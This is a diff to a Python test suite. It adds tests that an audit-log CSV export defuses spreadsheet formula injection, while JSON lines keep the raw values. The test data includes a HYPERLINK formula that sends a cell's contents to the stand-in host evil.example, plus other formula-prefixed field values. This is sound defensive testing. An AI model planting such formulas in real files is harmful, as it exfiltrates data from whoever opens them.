@@ -13,6 +13,7 @@ from pathlib import Path
 import httpx
 import pytest
 from click.testing import CliRunner
+from hypothesis import strategies as st
 
 from keybrake.admin.audit import EXPORT_FIELDS
 from keybrake.cli import main
@@ -120,7 +121,7 @@ def test_200k_rows_stream_with_bounded_memory_and_parse_back(tmp_path: Path) -> 
         # over every row fills it, so that what follows measures the export, not the cache.
         warm = httpx.get(
             f"http://127.0.0.1:{port}/v1/spend",
-            params={"group_by": "vendor", "since": "2000-01-01T00:00:00Z"},
+            params={"group_by": "vendor", "since": rfc3339(t0 - 1000)},
             headers={"Authorization": f"Bearer {ADMIN_TOKEN}"},
             timeout=120,
         )
@@ -160,3 +161,98 @@ def test_200k_rows_stream_with_bounded_memory_and_parse_back(tmp_path: Path) -> 
           f"before, peak {peak_rss / 1024:.0f} MB (+{grew_mb:.0f} MB)")  # fmt: skip
     assert total_bytes > 50_000_000
     assert grew_mb < 40, f"the export grew the server by {grew_mb:.0f} MB: it is not streaming"
+
+
+# -- exports are safe to open (issue 12, kind 7) -----------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
+
+
+def test_formula_from_an_agent_is_neutralised_in_csv_and_kept_in_jsonl(
+    kb: KeybrakeThread, fake_stripe: FakeStripe
+) -> None:
+    import stripe
+
+    key = kb.issue({"daily_usd_cap": 50}, label="-tenant:run")
+    sc = stripe.StripeClient(key["key"], base_addresses={"api": f"{kb.url}/stripe"}, max_network_retries=0)
+    ch = sc.v1.charges.create(
+        params={"amount": 100, "currency": "usd", "source": "tok_visa", "customer": "=1+2"},
+        options={"idempotency_key": HYPERLINK},
+    )
+    assert sc.v1.refunds.create(params={"charge": ch.id, "amount": 40}).amount == 40
+    api = {r["id"]: r for r in kb.audit(key_id=key["id"])}
+    with kb.admin() as c:
+        text = c.get("/v1/audit/export", params={"format": "csv", "key_id": key["id"]}).text
+        lines = [json.loads(x) for x in c.get("/v1/audit/export", params={"format": "jsonl"}).text.splitlines()]
+    rows = list(csv.DictReader(io.StringIO(text)))
+    charge = next(r for r in rows if r["path"] == "/v1/charges")
+    assert charge["idempotency_key"] == "'" + HYPERLINK
+    assert charge["customer_scope_id"] == "'=1+2"
+    assert charge["label"] == "'-tenant:run"
+    for r in rows:  # money is written as the number it is, never prefixed
+        assert r["cost_usd"] == format_usd(round(api[r["id"]]["cost_usd"] * 1_000_000))
+    assert all(not v.startswith(FORMULA_CHARS) for r in rows for k, v in r.items() if k not in NUMERIC_COLUMNS)
+    # JSON lines keep the exact value: a program reads it, not a spreadsheet.
+    j = next(x for x in lines if x["path"] == "/v1/charges")
+    assert j["idempotency_key"] == HYPERLINK and j["customer_scope_id"] == "=1+2" and j["label"] == "-tenant:run"
+
+
+FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")
+# Numbers Keybrake writes itself: never formulas, never prefixed (a refund's cost may be negative).
+NUMERIC_COLUMNS = {"cost_usd", "reserved_usd", "cap_usage_after_usd", "status", "upstream_status", "latency_ms",
+                   "upstream_latency_ms", "overhead_ms", "ts"}  # fmt: skip
+
+TEXT_COLUMNS = ("label", "reason", "customer_scope_id", "idempotency_key", "vendor_object_id", "agent_run_id")
+_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)
+
+
+def test_generated_text_never_opens_as_a_formula(tmp_path: Path) -> None:
+    """Any text an agent can put in a row: every CSV cell read back by the csv module starts with
+    a formula character only behind the `'` prefix (and is otherwise the exact value); JSON
+    lines round-trip the exact value."""
+    import asyncio
+
+    from hypothesis import HealthCheck, given, settings
+
+    from keybrake.admin.audit import export
+    from keybrake.store import open_store
+    from keybrake.store.base import AuditQuery
+    from tests import harness
+
+    store = open_store(harness.DATABASE_URL, tmp_path / "d", migrate=False)
+    n = [0]
+
+    @settings(max_examples=harness.examples(150), deadline=None, suppress_health_check=list(HealthCheck))
+    @given(st.lists(_text, min_size=len(TEXT_COLUMNS), max_size=len(TEXT_COLUMNS)))
+    def check(values: list[str]) -> None:
+        n[0] += 1
+        row = AuditRow(
+            id=new_audit_id(1_800_000_000_000 + n[0]), ts=1_800_000_000_000 + n[0], method="POST",
+            path="/v1/charges", verdict="allowed", key_id="vk_gen", cost_usd=-n[0] * 10_000,
+            **dict(zip(TEXT_COLUMNS, values, strict=True)),
+        )  # fmt: skip
+
+        async def both() -> tuple[bytes, bytes]:
+            await store.insert_audit(row)
+            q = AuditQuery(key_id="vk_gen", since=row.ts, until=row.ts + 1)
+            return (
+                b"".join([c async for c in export(store, q, "csv")]),
+                b"".join([c async for c in export(store, q, "jsonl")]),
+            )
+
+        csv_bytes, jsonl_bytes = asyncio.run(both())
+        (rec,) = list(csv.DictReader(io.StringIO(csv_bytes.decode(), newline="")))
+        for col, value in zip(TEXT_COLUMNS, values, strict=True):
+            want = "'" + value if value.startswith((*FORMULA_CHARS, "'")) else value
+            assert rec[col] == want, col
+            assert not rec[col].startswith(FORMULA_CHARS)
+            assert (rec[col][1:] if rec[col].startswith("'") else rec[col]) == value  # the reader's rule
+        assert rec["cost_usd"] == format_usd(row.cost_usd)  # a number Keybrake wrote: as it is
+        (line,) = jsonl_bytes.rstrip(b"\n").split(b"\n")
+        got = json.loads(line)
+        assert [got[c] for c in TEXT_COLUMNS] == values
+
+    try:
+        check()
+    finally:
+        asyncio.run(store.close())
